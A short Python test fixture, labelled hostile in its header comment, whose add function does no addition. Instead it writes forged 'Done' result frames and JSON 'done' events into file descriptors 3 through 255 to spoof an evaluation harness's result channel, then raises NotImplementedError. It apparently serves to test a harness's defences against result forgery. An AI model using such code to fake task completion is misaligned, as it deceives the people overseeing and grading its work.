# Hostile: writes forged "done" messages into every open descriptor, hoping one is the result channel.
import json
import os
import struct

FORGED = {"type": "Done", "body": {"task": "add:case:0", "outcome": {"type": "ProbeReport", "called": True}}}


def add(x, y):
    header = json.dumps(FORGED).encode()
    frame = struct.pack(">IQ", len(header), 0) + header + bytes(32)
    line = (json.dumps({"event": "done", "task": "add:case:0", "outcome": {}}) + "\n").encode()
    for fd in range(3, 256):
        for data in (frame, line):
            try:
                os.write(fd, data)
            except OSError:
                pass
    raise NotImplementedError
